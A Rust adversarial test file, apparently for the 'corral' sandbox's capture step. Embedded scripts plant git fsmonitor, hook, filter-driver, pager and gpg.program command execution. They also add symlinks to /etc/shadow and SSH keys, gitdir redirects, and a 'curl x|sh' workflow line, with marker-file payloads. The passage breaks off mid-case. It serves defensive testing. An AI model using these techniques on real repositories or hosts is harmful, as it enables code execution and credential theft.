//! CAP: the post-run capture step (corpus §9).
//!
//! corral's design (ADR-0020, ADR-0040): capture walks the overlay *upper layer* of the
//! attempt and compares it with the base commit's tree, read from the canonical repository's
//! object database through corral's own temporary bare git directory (clean environment,
//! `-c core.fsmonitor=false -c core.hooksPath=/dev/null ...`, no path ever passed to git). The
//! worker's `/workspace/.git` is a read-only bind (and never read by capture), so corpus
//! variant A's `.git` writes fail with EROFS. Corpus variant B ("the harness plants the state
//! after the sandbox exits, before capture") cannot be done black-box: sandbox and capture are
//! one `corral run`, and the upper layer lives in a private detached tmpfs. Instead:
//! - the worker plants everything it *can* write (nested repositories and gitfiles under
//!   `src/`, `.gitattributes`, `.gitmodules`, hooks, configs included by path) next to a real
//!   change, so a capture that ran git in the workspace would fire the payload on the host as
//!   root (payload: `touch /tmp/PWN-{N}`, a host path the generic marker check watches; inside
//!   the sandbox `/tmp` is private);
//! - for CAP-01..03 the harness also plants the same hostile config, hooks and attributes in
//!   the *canonical* repository on the host before the run (the one place outside the sandbox
//!   corral's git touches), and the payload must still never run.
//!
//! Most cases use a root-writable scope (`allowed_paths: ["src/", "*.corral-adv-none"]`: the
//! glob matches nothing the attacks write, but its empty literal prefix makes the backend mount
//! the workspace root writable) and no literal forbidden directory, so out-of-scope writes such
//! as `.github/workflows/ci.yml` really land in the upper layer and only capture's scope check
//! stands between them and a candidate. Positive controls run the same attack outside the
//! sandbox in a copy of the repository as uid 65534, then a *naive* capture (plain `git status
//! --porcelain`, `git diff`, `git add -A`, prefix scope checks, following links) there; the
//! payload writes a marker in a harness-owned folder (`{MARK}`), never `PWN-{N}`.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use anyhow::Result;

use super::{describe, started, trivial_run, vars};
use crate::adversarial::case::{Case, Judge, Verdict};
use crate::adversarial::harness::{AS_NOBODY, Control, Ctx, RunObs, RunSpec, set_mode, truncate};

pub fn cases() -> Vec<Case> {
    vec![
        Case {
            id: "CAP-01",
            title: "core.fsmonitor runs inside the supervisor",
            guarantee: "the capture step is not an execution path",
            script: Some(("py", CAP_01)),
            judge: cap_01,
        },
        Case {
            id: "CAP-02",
            title: "Hooks triggered by read-only-looking git commands",
            guarantee: "the capture step is not an execution path",
            script: Some(("py", CAP_02)),
            judge: cap_02,
        },
        Case {
            id: "CAP-03",
            title: "Filter/diff drivers, include, pager, sshCommand, gpg.program",
            guarantee: "the capture step is not an execution path",
            script: Some(("py", CAP_03)),
            judge: cap_03,
        },
        Case {
            id: "CAP-04",
            title: "Hiding out-of-scope changes from the change listing",
            guarantee: "changes outside the scope are rejected",
            script: Some(("py", CAP_04)),
            judge: cap_04,
        },
        Case {
            id: "CAP-05",
            title: "Replacing .git, gitfile redirect, alternates, core.worktree",
            guarantee: "the capture step looks only at this workspace",
            script: Some(("py", CAP_05)),
            judge: cap_05,
        },
        Case {
            id: "CAP-06",
            title: "Submodules and nested repositories",
            guarantee: "capture is not an execution path; out-of-scope changes are rejected",
            script: Some(("py", CAP_06)),
            judge: cap_06,
        },
        Case {
            id: "CAP-07",
            title: "Symlinks in the change set",
            guarantee: "the capture step does not follow links out of the workspace",
            script: Some(("py", CAP_07)),
            judge: cap_07,
        },
        Case {
            id: "CAP-08",
            title: "Race during capture with a leftover process",
            guarantee: "capture happens only after every sandbox process is dead",
            script: Some(("py", CAP_08)),
            judge: cap_08,
        },
        Case {
            id: "CAP-09",
            title: "Hard links in the change set",
            guarantee: "the capture step is correct",
            script: Some(("py", CAP_09)),
            judge: cap_09,
        },
        Case {
            id: "CAP-10",
            title: "Control characters, ..-looking names, parser confusion",
            guarantee: "the scope check cannot be fooled by names",
            script: Some(("py", CAP_10)),
            judge: cap_10,
        },
        Case {
            id: "CAP-11",
            title: "Non-UTF-8, Unicode and case tricks, .git lookalikes",
            guarantee: "the scope check is byte-exact and drops nothing",
            script: Some(("py", CAP_11)),
            judge: cap_11,
        },
        Case {
            id: "CAP-12",
            title: "Huge, sparse and special files",
            guarantee: "the capture step is bounded, and nothing blocks it",
            script: Some(("py", CAP_12)),
            judge: cap_12,
        },
        Case {
            id: "CAP-13",
            title: "Files inside the scope that execute code later",
            guarantee: "the scope policy has no escape hatch through config files",
            script: Some(("py", CAP_13)),
            judge: cap_13,
        },
    ]
}

/// Helpers shared by every CAP attack (prepended after the prelude).
macro_rules! py {
    ($body:literal) => {
        concat!(
            r##"def step(label, fn):
    try:
        r = fn()
        say(f"OK {label}" + (f" {r}" if r else ""))
        return True
    except OSError as e:
        say(f"ERR {label}: {ename(e.errno)}")
    except Exception as e:
        say(f"ERR {label}: {type(e).__name__} {e}")
    return False


def w(path, data, mode="w", label=None):
    def f():
        d = os.path.dirname(path)
        if d:
            os.makedirs(d, exist_ok=True)
        b = data if isinstance(data, bytes) else data.encode()
        with open(path, mode + "b") as fh:
            fh.write(b)
    return step(label or f"write {path!r}", f)


def sh(label, cmd):
    rc, out = run(cmd)
    say(f"{'OK' if rc == 0 else 'ERR'} {label}: rc={rc} {out.strip()[:300]!r}")
    return rc == 0


def mkexec(path, body):
    if w(path, body):
        step(f"chmod {path!r}", lambda: os.chmod(path, 0o755))


MARK = ARGS[0] if ARGS else "/tmp/PWN-" + N
PAY = f"touch {MARK}; false"
HOOK = f"#!/bin/sh\ntouch {MARK}\n"
"##,
            $body,
            "\nsay(\"DONE\")\nsys.exit(0)\n"
        )
    };
}

// ---------------------------------------------------------------------------------------------
// Shared judge helpers.

/// The scope most cases use: `src/` plus a glob that matches nothing written (its empty
/// literal prefix makes the workspace root writable), no literal forbidden directory.
fn wide(script: &str) -> RunSpec {
    let mut s = RunSpec::new(script);
    s.allowed_paths = vec!["src/".into(), "*.corral-adv-none".into()];
    s.forbidden_paths = vec!["**/*.pem".into()];
    s
}

/// `(code, path)` of every rejection in the manifest.
fn rejections(run: &RunObs) -> Vec<(String, String)> {
    run.manifest["rejections"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|r| {
                    (
                        r["code"].as_str().unwrap_or("").to_owned(),
                        r["path"].as_str().unwrap_or("").to_owned(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

fn has_rej(run: &RunObs, code: &str, path: &str) -> bool {
    rejections(run).iter().any(|(c, p)| c == code && p == path)
}

fn fmt_rej(run: &RunObs) -> String {
    truncate(
        &rejections(run)
            .iter()
            .map(|(c, p)| format!("{c}:{p:?}"))
            .collect::<Vec<_>>()
            .join(", "),
        1500,
    )
}

/// Capture ran and produced a verdict (accepted or rejected), rather than failing.
fn captured(run: &RunObs) -> bool {
    matches!(run.outcome(), "candidate_captured" | "candidate_rejected")
}

/// The run must have reached capture; every `(code, path)` must be among its rejections.
fn expect(j: &mut Judge, run: &RunObs, want: &[(&str, &str)]) {
    j.require(started(run), format!("the worker ran ({})", describe(run)));
    j.require(
        captured(run),
        format!("capture ran to a verdict ({})", describe(run)),
    );
    if !captured(run) {
        return;
    }
    for (code, path) in want {
        j.breach(
            !has_rej(run, code, path),
            format!(
                "{path:?} was not rejected with {code} (outcome {}; rejections: {})",
                run.outcome(),
                fmt_rej(run)
            ),
        );
    }
}

/// Worker lines for notes (steps that succeeded or failed).
fn steps(run: &RunObs) -> String {
    let out = run.output();
    let lines: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("OK ") || l.starts_with("ERR "))
        .collect();
    truncate(&lines.join(" ; "), 1500)
}

/// A `.git` write the worker reported as successful must have been rejected as git metadata
/// (ADR-0040 binds `.git` read-only; corpus variant A expects EROFS).
fn gitdir_guard(j: &mut Judge, run: &RunObs) {
    let out = run.output();
    let wrote: Vec<&str> = out.lines().filter(|l| l.starts_with("OK GITDIR")).collect();
    if wrote.is_empty() {
        j.note("every write into the worker's .git failed (read-only bind)");
        return;
    }
    let rejected = rejections(run)
        .iter()
        .any(|(c, p)| c == "git_metadata_changed" && (p == ".git" || p.starts_with(".git/")));
    j.breach(
        !rejected,
        format!(
            "the worker wrote into /workspace/.git ({}) and capture did not reject it",
            truncate(&wrote.join(" ; "), 300)
        ),
    );
}

/// A folder the uid-65534 control can write its marker into. Its name never contains
/// `PWN-{N}`, so the generic marker check does not mistake the control for a breach.
fn marks(ctx: &Ctx) -> Result<PathBuf> {
    let d = ctx.dir.join("marks");
    std::fs::create_dir_all(&d)?;
    set_mode(&d, 0o777)?;
    Ok(d)
}

/// The payload target for the sandboxed run: a host path the generic checks watch. Inside
/// the sandbox `/tmp` is private, so only a program run by corral on the host could create it.
fn host_mark(ctx: &Ctx) -> String {
    format!("/tmp/PWN-{}", ctx.n)
}

/// A naive capture outside the sandbox: `script` run by `sh` as uid 65534 in `ws`, with no
/// system or global git config. Returns stdout+stderr. 300 s is a bound on a hang.
fn naive(ws: &Path, script: &str) -> String {
    let home = ws.parent().unwrap_or(ws);
    let out = Command::new("timeout")
        .args(["-s", "KILL", "300"])
        .args(AS_NOBODY)
        .args(["sh", "-c", script])
        .current_dir(ws)
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", home)
        .env("LANG", "C.UTF-8")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "adv")
        .env("GIT_AUTHOR_EMAIL", "adv@corral.invalid")
        .env("GIT_COMMITTER_NAME", "adv")
        .env("GIT_COMMITTER_EMAIL", "adv@corral.invalid")
        .output();
    match out {
        Ok(o) => format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        ),
        Err(e) => format!("naive capture could not start: {e}"),
    }
}

/// The usual naive capture: what a supervisor running plain git in the workspace would do.
const NAIVE_GIT: &str = "git status --porcelain -uall; git diff; git add -A; git diff --cached --stat; git commit -qm capture";

fn chown_tree(p: &Path) {
    let _ = Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(p)
        .status();
}

/// Every byte corral stored for the run (artifacts, manifest) contains `needle`?
fn artifacts_contain(run: &RunObs, needle: &[u8]) -> bool {
    let mut hit = false;
    let mut files = Vec::new();
    crate::adversarial::harness::walk(&run.artifacts, 4, &mut |p| {
        if p.is_file() {
            files.push(p.to_path_buf());
        }
    });
    for f in files {
        if let Ok(b) = std::fs::read(&f)
            && contains(&b, needle)
        {
            hit = true;
        }
    }
    hit
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
}

/// A repository builder (an argument for `RunSpec::repo` / `Ctx::repo`) that runs the
/// standard fixture and then `plant` (a bash snippet, cwd = the repository, `$MARK` set) on
/// the host: corpus variant B, planted in the canonical repository corral's git reads.
fn hostile_repo(ctx: &Ctx, tag: &str, mark: &str, plant: &str) -> Result<String> {
    let standard = ctx.h.fixture("repos/standard.sh");
    let script = ctx.dir.join(format!("{tag}.sh"));
    let body = format!(
        "#!/usr/bin/env bash\nset -euo pipefail\nbase=$(bash {std} \"$1\" \"$2\" | tail -n1)\n\
         cd \"$1\"\nMARK={mark}\nexport GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null\n\
         {{\n{plant}\n}} >/dev/null 2>&1\necho \"$base\"\n",
        std = standard.display()
    );
    std::fs::write(&script, body)?;
    set_mode(&script, 0o755)?;
    Ok(script.to_string_lossy().into_owned())
}

/// Variant B for CAP-01..03: the harness plants `plant` in the canonical repository on the
/// host, then runs a harmless in-scope change through corral; the payload (host `/tmp`
/// marker, run as root if corral's git ran it) must never fire. Control: the same planted
/// repository, a naive `git status`/`diff`/`add`/`commit` as uid 65534 fires its marker.
fn variant_b(ctx: &mut Ctx, j: &mut Judge, plant: &str) -> Result<()> {
    let name = hostile_repo(ctx, "hostile-run", &host_mark(ctx), plant)?;
    let mut spec = RunSpec::new("CAP-01.py").args(["{MARK}", "inscope"]);
    spec.repo = name;
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    j.require(
        started(&run),
        format!("B: the worker ran ({})", describe(&run)),
    );
    j.require(
        run.outcome() == "candidate_captured",
        format!(
            "B: the in-scope change was captured ({}; {})",
            describe(&run),
            fmt_rej(&run)
        ),
    );
    j.breach(
        !run.changed_paths().iter().any(|(p, _)| p == "src/app.py"),
        format!(
            "B: src/app.py missing from changed_paths {:?}",
            run.changed_paths()
        ),
    );
    let m = marks(ctx)?.join("fired-b");
    let name = hostile_repo(ctx, "hostile-ctl", &m.to_string_lossy(), plant)?;
    let dir = ctx.dir.join("bctl");
    let (ws, _) = ctx.repo(&name, &dir.join("repo"))?;
    std::fs::write(ws.join("src/app.py"), "print('changed')\n")?;
    chown_tree(&dir);
    let out = naive(&ws, NAIVE_GIT);
    j.control(
        m.exists(),
        format!(
            "B: naive git in the planted canonical repository ran the payload ({})",
            truncate(&out, 200)
        ),
    );
    j.note("B: hostile config/hooks/attributes planted in the canonical repository on the host before the run; corral's git never ran them");
    Ok(())
}

/// Runs the control (same attack, uid 65534, copy of the repo) with `{MARK}` in a
/// harness-owned folder, then `naive_script` there. Returns (marker fired, naive output,
/// workspace).
fn control_naive(
    ctx: &mut Ctx,
    spec: &RunSpec,
    naive_script: &str,
) -> Result<(bool, String, PathBuf)> {
    let m = marks(ctx)?.join("fired-ctl");
    let v = vars([("MARK", m.to_string_lossy().into_owned())]);
    let ctl = ctx.control(spec, &v, &Control::default())?;
    let out = naive(&ctl.ws, naive_script);
    if ctx.h.verbose {
        eprintln!("[{}] naive capture:\n{}", ctx.id, truncate(&out, 3000));
    }
    Ok((m.exists(), out, ctl.ws))
}

// ---------------------------------------------------------------------------------------------
// CAP-01

const CAP_01: &str = py!(r#"
if len(ARGS) > 1 and ARGS[1] == "inscope":
    # Variant B's run: only an in-scope change (the hostile state is in the canonical repo).
    w("src/app.py", 'print("changed")\n', "a")
else:
    sh("GITDIR git config core.fsmonitor", f"git config core.fsmonitor '{PAY}'")
    w(".git/config", f'[core]\n\tfsmonitor = "{PAY}"\n', "a", "GITDIR append .git/config")
    # What the worker can write: a nested repository with a live fsmonitor, and a gitfile.
    sh("git init src/nested", "git init -q src/nested")
    sh("nested fsmonitor", f"git -C src/nested config core.fsmonitor '{PAY}'")
    w("src/nested/a.txt", "x\n")
    w("src/evil.cfg", f'[core]\n\tfsmonitor = "{PAY}"\n')
    w("src/app.py", 'print("changed")\n', "a")
"#);

fn cap_01(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = wide("CAP-01.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    expect(&mut j, &run, &[("git_metadata_changed", "src/nested/.git")]);
    gitdir_guard(&mut j, &run);
    j.note(format!("worker: {}", steps(&run)));
    let (fired, out, _) = control_naive(ctx, &spec, NAIVE_GIT)?;
    j.control(
        fired,
        format!(
            "outside, plain `git status` ran the planted core.fsmonitor ({})",
            truncate(&out, 200)
        ),
    );
    variant_b(
        ctx,
        &mut j,
        "git config core.fsmonitor \"touch $MARK; false\"\n\
         printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' \"$MARK\" > .git/evil.cfg\n\
         git config include.path evil.cfg",
    )?;
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-02

const CAP_02: &str = py!(r#"
HOOKS = ["post-index-change", "reference-transaction", "pre-commit", "post-commit",
         "post-checkout", "pre-auto-gc"]
for h in HOOKS:
    w(f".git/hooks/{h}", HOOK, label=f"GITDIR hook {h}")
sh("GITDIR git config core.hooksPath", f"git config core.hooksPath {WS}/src/hooks")
for h in HOOKS:
    mkexec(f"src/hooks/{h}", HOOK)
    mkexec(f"src/nested/.git/hooks/{h}", HOOK)
step("touch -d 2001 src/app.py", lambda: os.utime("src/app.py", (978307200, 978307200)))
w("src/app.py", 'print("changed")\n', "a")
"#);

fn cap_02(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = wide("CAP-02.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    expect(&mut j, &run, &[("git_metadata_changed", "src/nested/.git")]);
    gitdir_guard(&mut j, &run);
    j.note(format!("worker: {}", steps(&run)));
    let (fired, out, _) = control_naive(ctx, &spec, NAIVE_GIT)?;
    j.control(
        fired,
        format!(
            "outside, plain git status/add/commit ran a planted hook ({})",
            truncate(&out, 200)
        ),
    );
    variant_b(
        ctx,
        &mut j,
        "for h in post-index-change reference-transaction pre-commit post-commit \
         post-checkout pre-auto-gc; do printf '#!/bin/sh\\ntouch %s\\n' \"$MARK\" > \
         .git/hooks/$h; chmod +x .git/hooks/$h; done",
    )?;
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-03

const CAP_03: &str = py!(r#"
ATTR = "* filter=x diff=x\n"
w(".gitattributes", ATTR, "a")
w("src/.gitattributes", ATTR)
q = lambda s: "'" + s.replace("'", "'\\''") + "'"
for k, v in [("filter.x.clean", f"sh -c {q('touch ' + MARK + '; cat')}"),
             ("filter.x.smudge", f"sh -c {q('touch ' + MARK + '; cat')}"),
             ("diff.x.textconv", f"sh -c {q('touch ' + MARK + '; cat')}"),
             ("diff.external", f"touch {MARK}"), ("core.pager", f"touch {MARK}; cat"),
             ("core.sshCommand", f"touch {MARK}"), ("gpg.program", f"touch {MARK}"),
             ("commit.gpgsign", "true")]:
    sh(f"GITDIR git config {k}", f"git config {k} {q(v)}")
w(".git/config", "[include]\n\tpath = ../src/evil.cfg\n", "a", "GITDIR include")
w("src/evil.cfg", f"[filter \"x\"]\n\tclean = sh -c 'touch {MARK}; cat'\n"
  f"[diff \"x\"]\n\ttextconv = sh -c 'touch {MARK}; cat'\n")
w("src/app.py", 'print("changed")\n', "a")
"#);

fn cap_03(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = wide("CAP-03.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    expect(&mut j, &run, &[("path_out_of_scope", ".gitattributes")]);
    gitdir_guard(&mut j, &run);
    j.note(format!("worker: {}", steps(&run)));
    let (fired, out, _) = control_naive(ctx, &spec, NAIVE_GIT)?;
    j.control(
        fired,
        format!(
            "outside, plain git diff/add ran a planted filter or diff driver ({})",
            truncate(&out, 200)
        ),
    );
    variant_b(
        ctx,
        &mut j,
        "printf '* filter=x diff=x\\n' > .git/info/attributes\n\
         git config filter.x.clean \"sh -c 'touch $MARK; cat'\"\n\
         git config filter.x.smudge \"sh -c 'touch $MARK; cat'\"\n\
         git config diff.x.textconv \"sh -c 'touch $MARK; cat'\"\n\
         git config diff.external \"touch $MARK\"\n\
         git config core.pager \"touch $MARK; cat\"\n\
         git config core.sshCommand \"touch $MARK\"\n\
         git config gpg.program \"touch $MARK\"\n\
         git config core.askPass \"touch $MARK\"",
    )?;
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-04

const CAP_04: &str = py!(r#"
w(".github/workflows/ci.yml", "run: curl x|sh\n", "a")
w(".github/workflows/new.yml", "evil\n")
# (a) a .gitignore that hides everything below .github/ (works with .git read-only)
w(".github/.gitignore", "*\n")
# (b) index flags
sh("GITDIR assume-unchanged", "git update-index --assume-unchanged .github/workflows/ci.yml")
sh("GITDIR skip-worktree", "git update-index --skip-worktree .github/workflows/ci.yml")
# (c) excludes and untracked-file display
w(".git/info/exclude", ".github/\n", "a", "GITDIR info/exclude")
sh("GITDIR showUntrackedFiles", "git config status.showUntrackedFiles no")
# (e) stat-cache tricks, then a same-size edit with the old mtime restored
sh("GITDIR trustctime", "git config core.trustctime false && git config core.checkStat minimal")
st = os.stat(".gitattributes")
w(".gitattributes", "*.py TEXT\n")
step("touch -r .gitattributes", lambda: os.utime(".gitattributes", ns=(st.st_atime_ns, st.st_mtime_ns)))
# (f) a name the supervisor user's global excludes might hide
w(".env", "TOKEN=x\n")
# (d) staging, committing, moving HEAD, stashing
sh("GITDIR git add", "git add -f .github")
sh("GITDIR git commit", "git -c user.name=a -c user.email=a@b commit -qam x")
sh("GITDIR git stash", "git stash -q")
w("src/app.py", 'print("changed")\n', "a")
"#);

fn cap_04(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = wide("CAP-04.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    let hidden = [
        ".github/workflows/ci.yml",
        ".github/workflows/new.yml",
        ".github/.gitignore",
        ".gitattributes",
        ".env",
    ];
    let want: Vec<(&str, &str)> = hidden.iter().map(|p| ("path_out_of_scope", *p)).collect();
    expect(&mut j, &run, &want);
    j.breach(
        run.outcome() == "candidate_captured",
        "the run with out-of-scope changes was accepted",
    );
    gitdir_guard(&mut j, &run);
    j.note(format!("worker: {}", steps(&run)));
    // Control: outside, with a writable .git, every hiding trick works against plain git.
    let (_, out, ws) = control_naive(
        ctx,
        &spec,
        "git status --porcelain -uall; git diff --name-only HEAD",
    )?;
    let missed: Vec<&&str> = hidden
        .iter()
        .filter(|p| !out.contains(**p))
        .filter(|p| p.starts_with(".github/workflows/") || **p == ".gitattributes")
        .collect();
    j.control(
        !missed.is_empty() && ws.join(".github/workflows/new.yml").exists(),
        format!(
            "outside, plain `git status`/`git diff` did not list {missed:?} although the files changed ({})",
            truncate(&out, 300)
        ),
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-05

const CAP_05: &str = py!(r#"
if step("GITDIR mv .git .git.old", lambda: os.rename(".git", ".git.old")):
    step("mv .git.old .git", lambda: os.rename(".git.old", ".git"))
w(".git", "gitdir: /\n", label="GITDIR .git as a gitfile")
w(".git/objects/info/alternates", "/root/.ssh\n/etc\n", "a", "GITDIR alternates")
sh("GITDIR core.worktree", "git config core.worktree /")
# What the worker can write: gitfiles and alternates in nested places.
w("src/.git", "gitdir: /\n")
w("src/other/.git", "gitdir: /etc\n")
w("src/objects/info/alternates", "/etc\n")
w(".github/workflows/ci.yml", "run: curl x|sh\n", "a")
w("src/app.py", 'print("changed")\n', "a")
"#);

fn cap_05(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = wide("CAP-05.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    expect(
        &mut j,
        &run,
        &[
            ("path_out_of_scope", ".github/workflows/ci.yml"),
            ("git_metadata_changed", "src/.git"),
            ("git_metadata_changed", "src/other/.git"),
        ],
    );
    gitdir_guard(&mut j, &run);
    // Nothing outside the workspace may be listed.
    let host_paths: Vec<String> = rejections(&run)
        .into_iter()
        .map(|(_, p)| p)
        .chain(run.changed_paths().into_iter().map(|(p, _)| p))
        .filter(|p| {
            ["etc/", "root/", "usr/", "proc/", "/", "../"]
                .iter()
                .any(|h| p.starts_with(h))
        })
        .collect();
    j.breach(
        !host_paths.is_empty(),
        format!("host paths listed in the manifest: {host_paths:?}"),
    );
    let passwd = std::fs::read("/etc/passwd").unwrap_or_default();
    let first = passwd.split(|b| *b == b'\n').next().unwrap_or(b"").to_vec();
    j.breach(
        artifacts_contain(&run, &first),
        "the first line of the host's /etc/passwd is in corral's artifacts",
    );
    j.note(format!("worker: {}", steps(&run)));
    let (_, out, _) = control_naive(
        ctx,
        &spec,
        "git status --porcelain -uno 2>&1 | head -20; git status --porcelain -uall -- ':/etc/hostname' 2>&1",
    )?;
    j.control(
        out.contains(" D src/app.py") && out.contains("etc/hostname"),
        format!(
            "outside, plain `git status` with core.worktree=/ listed host paths ({})",
            truncate(&out, 300)
        ),
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-06

const CAP_06: &str = py!(r#"
# Swap the submodule's gitfile for a live repository with an fsmonitor.
step("rm vendor/lib/.git", lambda: os.unlink("vendor/lib/.git"))
sh("git init vendor/lib", "git init -q vendor/lib")
sh("vendor/lib fsmonitor", f"git -C vendor/lib config core.fsmonitor '{PAY}'")
w("vendor/lib/lib.txt", "changed\n")
w(".gitmodules", f'[submodule "x"]\n\tpath = "x\r"\n\turl = ../x\n\tupdate = !touch {MARK}\n', "a")
step("symlink x\\r", lambda: os.symlink(".git/modules/x/hooks", "x\r"))
step("symlink src/h", lambda: os.symlink("../.git/modules/vendor/lib/hooks", "src/h"))
sh("git init src/nested", "git init -q src/nested")
sh("nested fsmonitor", f"git -C src/nested config core.fsmonitor '{PAY}'")
mkexec("src/nested/.git/hooks/post-index-change", HOOK)
w("src/nested/ok.txt", "fine\n")
w("src/nested/secret.pem", "-----BEGIN PRIVATE KEY-----\n")
w("src/app.py", 'print("changed")\n', "a")
"#);

fn cap_06(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = wide("CAP-06.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    expect(
        &mut j,
        &run,
        &[
            ("git_metadata_changed", "src/nested/.git"),
            ("git_metadata_changed", "vendor/lib/.git"),
            ("path_out_of_scope", ".gitmodules"),
            ("symlink_escape", "src/h"),
            // Inside the nested repository: enumerated by corral's walker, not one opaque entry.
            ("path_forbidden", "src/nested/secret.pem"),
        ],
    );
    // The written submodule path is git metadata or out of scope; either way rejected.
    let rej = rejections(&run);
    j.breach(
        captured(&run)
            && !rej
                .iter()
                .any(|(_, p)| p == "vendor/lib" || p.starts_with("vendor/lib/")),
        format!(
            "nothing under the submodule path vendor/lib was rejected ({})",
            fmt_rej(&run)
        ),
    );
    j.breach(
        captured(&run) && !rej.iter().any(|(_, p)| p.starts_with("x\\x0d")),
        format!(
            "the symlink named \"x\\r\" was not rejected ({})",
            fmt_rej(&run)
        ),
    );
    j.note(format!(
        "rejections: {}; worker: {}",
        fmt_rej(&run),
        steps(&run)
    ));
    // git itself refuses `update = !cmd` from .gitmodules (CVE-2019-19604), and that refusal
    // would hide the rest: the naive capture restores .gitmodules first.
    let (fired, out, _) = control_naive(
        ctx,
        &spec,
        "git checkout -q -- .gitmodules; git status --porcelain; git diff",
    )?;
    j.control(
        fired,
        format!(
            "outside, plain `git status` recursed into the swapped submodule and ran its fsmonitor ({})",
            truncate(&out, 300)
        ),
    );
    j.control(
        out.contains("src/nested/") && !out.contains("secret.pem"),
        "outside, plain `git status` listed src/nested/ as one opaque entry",
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-07

const CAP_07: &str = py!(r#"
SECRET = ARGS[1]
if len(ARGS) > 2 and ARGS[2] == "inscope":
    step("symlink src/ok -> app.py", lambda: os.symlink("app.py", "src/ok"))
    w("src/app.py", 'print("changed")\n', "a")
else:
    for name, target in [("src/a.txt", "/etc/shadow"), ("src/p", "/etc/passwd"),
                         ("src/c", SECRET), ("src/rel", "../" * 12 + SECRET.lstrip("/")),
                         ("src/k", "../../../../home/corral/.ssh/id_ed25519"),
                         ("src/gh", "../.github"), ("src/e", "/proc/self/root/etc"),
                         ("src/g", "../.git/config")]:
        step(f"symlink {name} -> {target}", lambda n=name, t=target: os.symlink(t, n))
    w("src/gh/workflows/x.yml", "evil\n")
    w("src/app.py", 'print("changed")\n', "a")
"#);

fn cap_07(ctx: &mut Ctx) -> Result<Verdict> {
    let secret = ctx.dir.join("host-secret");
    let needle = format!("CAP07HOST-{}", ctx.n);
    std::fs::write(&secret, &needle)?;
    set_mode(&secret, 0o644)?;
    let v = vars([
        ("MARK", host_mark(ctx)),
        ("SECRET", secret.to_string_lossy().into_owned()),
    ]);
    let spec = wide("CAP-07.py").args(["{MARK}", "{SECRET}"]);
    let run = ctx.run(&spec, &v)?;
    let mut j = Judge::new();
    let mut want: Vec<(&str, &str)> = [
        "src/a.txt",
        "src/p",
        "src/c",
        "src/rel",
        "src/k",
        "src/gh",
        "src/e",
        "src/g",
    ]
    .iter()
    .map(|p| ("symlink_escape", *p))
    .collect();
    want.push(("path_out_of_scope", ".github/workflows/x.yml"));
    expect(&mut j, &run, &want);
    j.breach(
        artifacts_contain(&run, needle.as_bytes()),
        "the host file a symlink pointed at is in corral's artifacts",
    );
    j.note(format!("rejections: {}", fmt_rej(&run)));
    // An allowed in-scope link must be recorded as a link (mode 120000, target as content).
    let spec2 = wide("CAP-07.py").args(["{MARK}", "{SECRET}", "inscope"]);
    let run2 = ctx.run(&spec2, &v)?;
    let patch = String::from_utf8_lossy(&run2.patch()).into_owned();
    j.require(
        run2.outcome() == "candidate_captured",
        format!("the in-scope link run was captured ({})", describe(&run2)),
    );
    j.breach(
        run2.outcome() == "candidate_captured"
            && !(patch.contains("new file mode 120000") && patch.contains("+app.py")),
        format!(
            "src/ok -> app.py not recorded as a symlink: {}",
            truncate(&patch, 300)
        ),
    );
    // Control: a naive capture that reads the changed files (following links) outside.
    let ctlv = vars([
        ("MARK", marks(ctx)?.join("x").to_string_lossy().into_owned()),
        ("SECRET", secret.to_string_lossy().into_owned()),
    ]);
    let ctl = ctx.control(&spec, &ctlv, &Control::default())?;
    let out = naive(
        &ctl.ws,
        "git status --porcelain -uall | cut -c4- | while read -r p; do cat \"$p\" 2>/dev/null; done",
    );
    j.control(
        out.contains(&needle),
        "outside, a naive capture that reads the listed files copied the host file behind src/c",
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-08

const CAP_08: &str = py!(r#"
SECRET = ARGS[1]
mode = ARGS[2] if len(ARGS) > 2 else "run"
def flipper():
    while True:
        for t in ("/etc/passwd", SECRET):
            try:
                os.symlink(t, "src/x.lnk")
                os.replace("src/x.lnk", "src/x")
                with open("src/x.tmp", "w") as f:
                    f.write("ok\n")
                os.replace("src/x.tmp", "src/x")
            except OSError:
                pass
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            try:
                os.close(fd)
            except OSError:
                pass
        flipper()
    os._exit(0)
